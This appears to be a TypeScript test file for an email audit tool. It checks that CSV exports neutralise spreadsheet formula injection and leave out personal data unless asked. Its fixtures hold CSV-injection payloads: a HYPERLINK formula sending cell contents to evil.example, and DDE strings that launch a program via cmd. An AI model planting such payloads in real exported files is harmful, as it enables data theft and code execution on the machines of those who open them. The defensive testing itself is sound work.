/** Exports of an audit: CSV that spreadsheets cannot execute, and no personal facts unless asked for. */
import { strict as assert } from "node:assert";
import { auditForExport, createAudit, csvField, flaggedCsv, groupsCsv, periodsCsv } from "../../src/audit/index.ts";
import { byCodeUnits, cells } from "./csv.ts";
import { delivery, headerBlockOf, withHeader } from "./mail.ts";

/** Fixture e2e/24 (a plaintext hand-off from Google) delivered four times with hostile subjects. */
const HOSTILE_SUBJECTS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"];

function hostileAudit() {
  const audit = createAudit();
  HOSTILE_SUBJECTS.forEach((subject, i) => {
    const headers = withHeader(
      delivery(headerBlockOf("e2e/24-stanford-postini-google-kvack.eml"), `2024-01-0${i + 1}T00:00:00Z`, `hostile-${i}`),
      "Subject",
      subject,
    );
    audit.addHeaders(headers, { kind: "file", path: "inbox.mbox", index: i + 1 });
  });
  return audit.result();
}

describe("audit exports", () => {
  it("a subject starting with =, +, - or @ cannot run as a spreadsheet formula (CSV injection)", () => {
    const csv = flaggedCsv(hostileAudit(), { personal: true });
    const subjects = cells(csv)
      .slice(1)
      .map((row) => row[14] ?? "");
    assert.deepEqual(subjects.sort(byCodeUnits), HOSTILE_SUBJECTS.map((subject) => `'${subject}`).sort(byCodeUnits));
    for (const row of cells(csv)) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
  });

  it("a cell starting with a tab or a carriage return cannot run as a formula either", () => {
    assert.equal(csvField("\t=1+1"), "'\t=1+1");
    assert.equal(csvField("\r=1+1"), '"\'\r=1+1"');
    assert.equal(csvField("plain"), "plain");
    assert.equal(csvField('say "hi", then go'), '"say ""hi"", then go"');
    assert.equal(csvField(-3), "-3", "our own numbers stay numbers");
  });

  it("a file path is a cell like any other: a folder named like a formula is neutralised", () => {
    const audit = createAudit();
    audit.addHeaders(headerBlockOf("e2e/23-html-in-received-vger-exim.eml"), { kind: "file", path: "=cmd|' /C calc'!A0.mbox", index: 1 });
    assert.match(flaggedCsv(audit.result(), { personal: false }), /\r\n[^\r]*,'=cmd\|' \/C calc'!A0\.mbox,1\r\n$/);
  });

  it("holds no subject, From address or Message-ID unless asked for (they may hold patient data)", () => {
    const audit = hostileAudit();
    const json = JSON.stringify(auditForExport(audit, { personal: false }));
    const csv = flaggedCsv(audit, { personal: false });
    for (const text of [json, csv]) {
      assert.ok(!text.includes("Stephen Barber") && !text.includes("smbarber@stanford.edu"), "From address");
      assert.ok(!text.includes("hostile-0@copies.hoplock.invalid"), "Message-ID");
      assert.ok(!text.includes("HYPERLINK"), "subject");
    }
    assert.ok(JSON.stringify(auditForExport(audit, { personal: true })).includes("smbarber@stanford.edu"));
    const thunderbird = createAudit();
    thunderbird.addHeaders(headerBlockOf("e2e/24-stanford-postini-google-kvack.eml"), {
      kind: "thunderbird",
      id: 7,
      headerMessageId: "<CA+DLN@mail.gmail.com>",
    });
    assert.deepEqual(auditForExport(thunderbird.result(), { personal: false }).flagged.items[0]?.ref, { kind: "thunderbird", id: 7, headerMessageId: null });
  });

  it("writes the sender and period tables with counts and shares", () => {
    const audit = hostileAudit();
    assert.deepEqual(cells(groupsCsv(audit))[1]?.slice(0, 11), ["google.com", "verified", "4", "0", "0", "4", "0", "0", "0", "100", "0"]);
    assert.deepEqual(cells(periodsCsv(audit, "month")), [
      [
        "month",
        "counted",
        "encrypted",
        "weak",
        "plaintext",
        "unknown",
        "encrypted-pct",
        "weak-pct",
        "plaintext-pct",
        "unknown-pct",
        "internal",
        "no-received",
        "dated-by-date-header",
      ],
      ["2024-01", "4", "0", "0", "4", "0", "0", "0", "100", "0", "0", "0", "0"],
    ]);
  });
});
